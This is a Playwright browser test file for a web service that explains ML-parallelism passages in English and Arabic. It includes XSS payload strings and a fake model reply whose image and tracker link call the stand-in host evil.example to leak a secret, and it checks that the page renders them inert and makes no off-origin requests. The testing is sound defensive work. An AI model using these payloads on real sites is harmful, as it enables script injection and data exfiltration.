"""The web page in headless Chromium (Debian's chromium, driven by playwright) against a live uvicorn (issue 5).

Every request the browser makes is recorded, and any request off the page's origin is aborted (and fails
the test), so the page can never reach a real host.
"""

from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.support.fake_anthropic import FakeAnthropic, Reply, text
from tests.support.live_server import LiveServer
from service.config import load as load_settings

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
SEEDS = sorted((ROOT.parent / "shared" / "seeds").glob("*.txt"))
ENGLISH = ("Jingyuan was surprised: on TPUs at K2 scale you don't need PP. Horace: PP is mostly needed when "
           "you're DP-comms bound; with enough bandwidth over a large domain (NVL72) simpler parallelism works.")
PAYLOADS = ('<script>window.__xss = 1; alert(1)</script> <img src=x onerror="window.__xss = 2; alert(2)"> '
            "[click](javascript:window.__xss=3) <svg onload=\"window.__xss = 4\"></svg> "
            '<a href="javascript:alert(5)" onclick="alert(6)">link</a> What are PP and DP?')
MODEL_PAYLOAD = ("## Answer\n\nPP splits layers. <script>window.__xss = 7; alert(7)</script>\n\n"
                 "<img src=\"https://evil.example/pixel.png\" onerror=\"window.__xss = 8\">\n\n"
                 "![tracker](https://evil.example/collect?q=SECRET)\n\n"
                 "[read more](javascript:window.__xss=9) and [docs](https://example.org/docs)\n")


class Page:
    """A fresh browser page on `origin`, recording requests, dialogs and off-origin attempts."""

    def __init__(self, browser, origin: str):
        self.origin = origin
        self.context = browser.new_context(service_workers="block")
        self.requests: list[str] = []
        self.off_origin: list[str] = []
        self.dialogs: list[str] = []
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self.page.set_default_timeout(20_000)
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("dialog", self._dialog)

    def _route(self, route):
        url = route.request.url
        parts = urlsplit(url)
        if f"{parts.scheme}://{parts.netloc}" == self.origin or parts.scheme in ("blob", "data"):
            route.continue_()
        else:
            self.off_origin.append(url)
            route.abort()

    def _dialog(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def ask(self, content: str):
        self.page.fill("#input", content)
        self.page.click("#send")
        self.page.wait_for_selector(".message.assistant .actions .copy")  # the final event arrived

    def assert_same_origin(self):
        assert self.requests, "no request was recorded"
        assert self.off_origin == []
        for url in self.requests:
            parts = urlsplit(url)
            assert parts.scheme in ("blob", "data") or f"{parts.scheme}://{parts.netloc}" == self.origin, url

    def assert_inert(self):
        assert self.dialogs == []
        assert self.page.evaluate("() => window.__xss") is None
        found = self.page.evaluate("""() => {
            const box = document.querySelector('#messages');
            const bad = [];
            for (const node of box.querySelectorAll('*')) {
                if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'svg'].includes(node.tagName)) bad.push(node.tagName);
                for (const attribute of node.attributes) {
                    if (attribute.name.startsWith('on')) bad.push(node.tagName + '@' + attribute.name);
                    if (['href', 'src'].includes(attribute.name) && /^\\s*(javascript|data|vbscript):/i.test(attribute.value))
                        bad.push(node.tagName + '@' + attribute.value);
                }
                if (node.tagName === 'IMG' && !/^blob:/.test(node.getAttribute('src') || '')) bad.push('IMG ' + node.src);
            }
            return bad;
        }""")
        assert found == []

    def close(self):
        self.context.close()


@pytest.fixture
def open_page(browser):
    pages = []

    def opener(origin: str) -> Page:
        page = Page(browser, origin)
        pages.append(page)
        return page

    yield opener
    for page in pages:
        page.close()


@pytest.fixture
def server():
    with LiveServer(load_settings(backend="offline")) as live:
        yield live


def chart_loaded(page, selector: str) -> None:
    page.wait_for_function(
        "(selector) => { const img = document.querySelector(selector);"
        " return img && img.complete && img.naturalWidth > 0 && img.src.startsWith('blob:'); }", arg=selector)


@pytest.mark.skipif(not SEEDS, reason="no seed text in ../shared/seeds/*.txt")
def test_the_seed_is_explained_with_terms_a_chart_and_right_to_left_arabic(server, open_page):
    browser_page = open_page(server.url)
    page = browser_page.page
    page.goto(server.url + "/")
    browser_page.ask(SEEDS[0].read_text(encoding="utf-8"))
    answer = page.locator(".message.assistant").last
    # terms, with their plain definitions on hover (title) and on tap (popover)
    terms = answer.locator("abbr.term")
    assert terms.count() >= 10
    first = terms.first
    definition = first.get_attribute("title")
    assert definition and len(definition) > 20
    first.click()
    assert page.locator("#popover").is_visible()
    assert page.locator("#popover").text_content() == definition
    # the working of each calculation behind a toggle
    working = answer.locator("details.working").first
    assert working.locator("summary").text_content() == "اعرض خطوات الحساب"
    assert not working.locator("ol").is_visible()
    working.locator("summary").click()
    assert working.locator("ol li").first.is_visible()
    # the chart the service drew, in the answer and in the what-if panel
    chart_loaded(page, ".message.assistant img.answer-chart")
    chart_loaded(page, "#chart")
    # Arabic laid out right to left
    direction = "(selector) => getComputedStyle(document.querySelector(selector)).direction"
    assert page.evaluate(direction, ".message.assistant .explanation") == "rtl"
    assert page.evaluate(direction, ".message.user") == "rtl"
    # the what-if panel redraws from the calculators as the reader changes a value
    old_chart = page.get_attribute("#chart", "src")
    page.fill("#wi-chips", "64")
    page.wait_for_function("(old) => document.querySelector('#chart').src !== old", arg=old_chart)
    chart_loaded(page, "#chart")
    page.wait_for_function("() => /محدود بالحساب/.test(document.querySelector('#whatif-verdict').textContent)")
    # the history lists it
    assert page.locator("#history button.conversation").count() == 1
    browser_page.assert_same_origin()
    browser_page.assert_inert()


def test_an_english_passage_reads_left_to_right_and_history_reopens_it(server, open_page):
    browser_page = open_page(server.url)
    page = browser_page.page
    page.goto(server.url + "/")
    browser_page.ask(ENGLISH)
    answer = page.locator(".message.assistant").last
    assert answer.locator("abbr.term").count() >= 4
    assert answer.locator("details.working summary").first.text_content() == "Show the working"
    chart_loaded(page, ".message.assistant img.answer-chart")
    assert page.evaluate("getComputedStyle(document.querySelector('.message.assistant .explanation')).direction") == "ltr"
    explanation = answer.locator(".explanation").inner_text()
    # the copy button puts the answer's markdown on the clipboard
    browser_page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.url)
    answer.locator("button.copy").click()
    page.wait_for_function("() => document.querySelector('.message.assistant button.copy').textContent === 'Copied'")
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert copied.startswith("## ") and "PP" in copied
    # a fresh page finds the conversation in the history and shows it again
    page.goto(server.url + "/")
    page.click("#history button.conversation")
    page.wait_for_selector(".message.assistant abbr.term")
    assert page.locator(".message.assistant .explanation").inner_text() == explanation
    assert page.locator(".message.user").inner_text() == ENGLISH
    browser_page.assert_same_origin()


def test_injected_payloads_in_the_input_are_inert(server, open_page):
    browser_page = open_page(server.url)
    page = browser_page.page
    page.goto(server.url + "/")
    browser_page.ask(PAYLOADS)
    assert page.locator(".message.user").inner_text() == PAYLOADS  # shown as text, not run
    browser_page.assert_inert()
    page.goto(server.url + "/")  # and again when the history re-renders it
    page.click("#history button.conversation")
    page.wait_for_selector(".message.assistant .explanation")
    browser_page.assert_inert()
    browser_page.assert_same_origin()


def test_a_model_answer_with_payloads_is_inert_and_loads_nothing_from_elsewhere(open_page):
    with FakeAnthropic() as fake:
        fake.always(Reply([text(MODEL_PAYLOAD)]))
        settings = load_settings(backend="anthropic", anthropic_api_key="sk-ant-test-key", anthropic_base_url=fake.url,
                            max_retries=0, request_deadline_s=20)
        with LiveServer(settings) as live:
            browser_page = open_page(live.url)
            page = browser_page.page
            page.goto(live.url + "/")
            browser_page.ask("What does PP mean?")
            html = page.inner_html(".message.assistant .explanation")
            assert "&lt;script&gt;" in html and "[tracker]" in html
            assert page.locator(".message.assistant a[href='https://example.org/docs']").count() == 1
            for link in page.locator(".message.assistant a").all():
                assert link.get_attribute("rel") == "noopener noreferrer nofollow"
            browser_page.assert_inert()
            browser_page.assert_same_origin()  # no request to evil.example, ever
    assert fake.requests, "the model was not asked"


def test_a_service_with_a_token_asks_for_it_and_sends_it_in_the_header(open_page):
    with LiveServer(load_settings(backend="offline", api_token="browser-secret-token")) as live:
        browser_page = open_page(live.url)
        page = browser_page.page
        seen_headers = []
        page.on("request", lambda request: seen_headers.append((request.url, request.headers.get("authorization"))))
        page.goto(live.url + "/")
        page.wait_for_selector("#token-form", state="visible")
        page.fill("#token", "browser-secret-token")
        page.click("#token-form button")
        browser_page.ask(ENGLISH)
        assert page.locator(".message.assistant abbr.term").count() >= 4
        api_calls = [(url, auth) for url, auth in seen_headers if "/v1/" in url]
        assert api_calls and all(auth == "Bearer browser-secret-token" for _, auth in api_calls)
        assert all("browser-secret-token" not in url for url, _ in seen_headers)
        browser_page.assert_same_origin()


def test_an_english_point_quoted_in_an_arabic_answer_reads_left_to_right_at_phone_width(server, open_page):
    # stop 61: an Arabic answer to an English passage quotes the English reading's point; in the right-to-left page the
    # quote keeps its own direction, and nothing is wider than a 390 px phone
    browser_page = open_page(server.url)
    page = browser_page.page
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto(server.url + "/")
    page.select_option("#lang", "ar")
    browser_page.ask("We moved the all-gather of ZeRO-3 off the critical path, so the step time dropped from 1.9 s to 1.4 s "
                     "on 64 H100 GPUs.")
    quote = page.locator(".message.assistant .explanation blockquote").first
    assert page.evaluate("getComputedStyle(document.querySelector('.message.assistant .explanation')).direction") == "rtl"
    assert page.evaluate("getComputedStyle(document.querySelector('.message.assistant blockquote')).direction") == "ltr"
    assert "1.9 s to 1.4 s" in quote.inner_text()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    browser_page.assert_inert()
